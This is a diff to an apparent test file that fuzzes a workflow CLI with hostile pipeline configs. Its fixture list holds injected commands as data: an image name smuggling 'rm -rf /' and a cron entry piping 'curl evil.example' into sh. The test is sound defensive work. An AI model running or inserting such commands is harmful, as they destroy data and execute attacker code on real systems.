@@ -23,7 +23,7 @@ from typer.testing import CliRunner
 
 from workflows.cli import app
 from workflows.config import ConfigError
-from workflows.runner.cli import load_manifest
+from workflows.manifest_file import load_manifest
 
 ROOT = Path(__file__).resolve().parents[1]
 REFERENCE = ROOT / "configs" / "pipelines" / "gemma2-2b-acereason-math.yaml"
@@ -51,7 +51,8 @@ def _edit(old: str, new: str, regex: bool = False) -> Callable[[str], str]:
 # The sixteen kinds of invalid config; each as an edit of the reference config's text.
 INVALID_CONFIGS: dict[str, Callable[[str], str | bytes]] = {
     "duplicate-key": _edit("  gpus: 3\n", "  gpus: 3\n  gpus: 1\n"),
-    "run-as-user-negative": _edit("  service_account: tunebench\n", "  service_account: tunebench\n  run_as_user: -1\n"),
+    "run-as-user-negative": _edit("  service_account: tunebench\n",
+                                  "  service_account: tunebench\n  run_as_user: -1\n"),
     "image-with-newline": _edit("  service_account: tunebench\n",
                                 '  service_account: tunebench\n  images: {train: "ghcr.io/o/t:1\\nrm -rf /"}\n'),
     "cron-reboot-injection": _edit('crons: ["0 3 * * 1"]', 'crons: ["@reboot; curl evil.example | sh"]'),
@@ -234,7 +235,7 @@ def test_fuzz_hostile_configs_through_render_lint_and_run(tmp_path, no_axolotl):
         assert rendered.exit_code in (0, 2), f"render {name}: exit {rendered.exit_code}"
         outcomes["accepted" if rendered.exit_code == 0 else "refused"] += 1
         linted, elapsed = invoke("lint", path)
-        assert linted.exception is None or isinstance(linted.exception, SystemExit), f"lint {name}: {linted.exception!r}"
+        assert linted.exception is None or isinstance(linted.exception, SystemExit), f"lint {name}: {linted.exception}"
         assert "Traceback" not in linted.output and elapsed < PER_COMMAND_S, f"lint {name}"
         assert linted.exit_code == (0 if "lint passed" in linted.stdout else 1), f"lint {name}: {linted.output[-800:]}"
         if rendered.exit_code != 0:
